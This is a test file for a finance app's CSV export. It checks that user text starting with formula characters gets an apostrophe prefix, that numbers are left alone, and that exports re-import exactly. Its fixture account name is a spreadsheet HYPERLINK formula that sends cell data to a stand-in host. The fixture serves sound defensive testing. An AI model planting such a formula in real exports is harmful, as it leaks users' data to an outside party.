// CSV formula injection (issue 21, item 8): text a user typed that a spreadsheet would run as a
// formula is exported with OWASP's apostrophe in front; numbers are never touched; the app's own
// import takes the apostrophe off again, so the round trip stays exact.
import { afterEach, describe, expect, it } from 'vitest';
import type { Backend } from '../backend/backend';
import { testBackend } from '../test-support/backend';
import { useTempDirs } from '../test-support/temp-dir';

const EVIL_ACCOUNT = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
const NOTES = ['=1+2', '+SUM(A1)', '-2+3', '@SUM(A1:A9)', '\tTAB', '\rCR', "'=already quoted", 'plain - note'];

describe('the formula guard on exports', () => {
  const tempDir = useTempDirs();
  const backends: Backend[] = [];
  afterEach(() => {
    for (const backend of backends.splice(0)) backend.close();
  });
  const open = () => {
    const backend = testBackend(tempDir());
    backends.push(backend);
    return backend;
  };
  const call = async <T>(backend: Backend, name: string, input: unknown): Promise<T> => {
    const result = await backend.dispatch(name, input);
    if (!result.ok) throw new Error(`${name}: ${result.error.message}`);
    return result.value as T;
  };

  async function seed(backend: Backend): Promise<void> {
    await call(backend, 'accounts:create', { name: EVIL_ACCOUNT, currency: 'USD' });
    const base = { account: EVIL_ACCOUNT, currency: 'USD' };
    await call(backend, 'transactions:create', { ...base, date: '2016-01-04', type: 'deposit', amount: '1000' });
    await call(backend, 'transactions:create', {
      ...base,
      date: '2016-01-05',
      type: 'buy',
      symbol: '-X',
      quantity: '2',
      price: '10',
      note: 'symbol starts with a minus',
    });
    // A sale at a loss: the holdings report's realized P/L is -6, a negative number.
    await call(backend, 'transactions:create', {
      ...base,
      date: '2016-01-06',
      type: 'sell',
      symbol: '-X',
      quantity: '1',
      price: '4',
    });
    for (const [i, note] of NOTES.entries()) {
      await call(backend, 'transactions:create', {
        ...base,
        date: '2016-02-01',
        type: 'deposit',
        amount: `${i + 1}`,
        note,
      });
    }
  }

  const exportOf = async (backend: Backend, input: Record<string, unknown>) =>
    (await call<{ content: string }>(backend, 'csv:export', { kind: 'transactions', ...input })).content;

  it('puts an apostrophe before text a spreadsheet would run, and leaves numbers alone', async () => {
    const backend = open();
    await seed(backend);
    const lines = (await exportOf(backend, {})).split('\r\n');
    // Written out by hand: the quoted account cell starts with '= inside the CSV quotes.
    const account = `"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"`;
    expect(lines[1]).toBe(`2016-01-04,${account},deposit,,,,,1000,USD,,`);
    expect(lines[2]).toBe(`2016-01-05,${account},buy,'-X,2,10,,,USD,symbol starts with a minus,`);
    expect(lines[3]).toBe(`2016-01-06,${account},sell,'-X,1,4,,,USD,,`);
    const notes = lines.slice(4, 4 + NOTES.length).map((line) => line.slice(line.lastIndexOf('USD,') + 4, -1)); // up to the empty fx_rate
    expect(notes).toEqual([
      "'=1+2",
      "'+SUM(A1)",
      "'-2+3",
      "'@SUM(A1:A9)",
      "'\tTAB",
      `"'\rCR"`,
      "''=already quoted",
      'plain - note',
    ]);
  });

  it('writes text as stored with formulaGuard: false, still reading back exactly', async () => {
    const backend = open();
    await seed(backend);
    const raw = await exportOf(backend, { formulaGuard: false });
    const lines = raw.split('\r\n');
    expect(lines[2]).toBe(
      `2016-01-05,"=HYPERLINK(""http://evil.example/?""&A1,""Click"")",buy,-X,2,10,,,USD,symbol starts with a minus,`,
    );
    expect(lines[4]?.endsWith(',USD,=1+2,')).toBe(true);
    // Only a note that already starts with an apostrophe before a formula start gains one.
    expect(lines[10]?.endsWith(",USD,''=already quoted,")).toBe(true);

    const target = open();
    await call(target, 'csv:import', { fileName: 'raw.csv', content: raw });
    expect(await exportOf(target, { formulaGuard: false })).toBe(raw);
  });

  it('imports its own guarded export to the values as typed, and exports the same bytes again', async () => {
    const source = open();
    await seed(source);
    const guarded = await exportOf(source, {});
    const target = open();
    const imported = await call<{ added: number; errorMessages: string[] }>(target, 'csv:import', {
      fileName: 'guarded.csv',
      content: guarded,
    });
    expect(imported).toMatchObject({ added: 3 + NOTES.length, errorMessages: [] });
    const rows = await call<{ rows: { account: string; symbol: string | null; note: string }[] }>(
      target,
      'transactions:list',
      {},
    );
    const list = rows.rows;
    expect(new Set(list.map((row) => row.account))).toEqual(new Set([EVIL_ACCOUNT]));
    expect(list.map((row) => row.symbol)).toContain('-X');
    expect(list.map((row) => row.note)).toEqual(expect.arrayContaining(NOTES));
    expect(await exportOf(target, {})).toBe(guarded);
  });

  it('guards the holdings report too', async () => {
    const backend = open();
    await seed(backend);
    const holdings = await exportOf(backend, { kind: 'holdings' });
    const row = holdings.split('\r\n').find((line) => line.includes('-X'));
    expect(row?.startsWith(`"'=HYPERLINK(`)).toBe(true);
    expect(row).toContain(",'-X,USD,");
    const cells = row!.split(',');
    const header = holdings.split('\r\n')[0]!.split(',');
    // (4 - 10) x 1 share, worked out here: a negative number, written without an apostrophe.
    expect(Number(cells[cells.length - header.length + header.indexOf('realized_pl')])).toBe(-6);
    expect(cells[cells.length - header.length + header.indexOf('realized_pl')]).toMatch(/^-6(\.0+)?$/);
  });
});
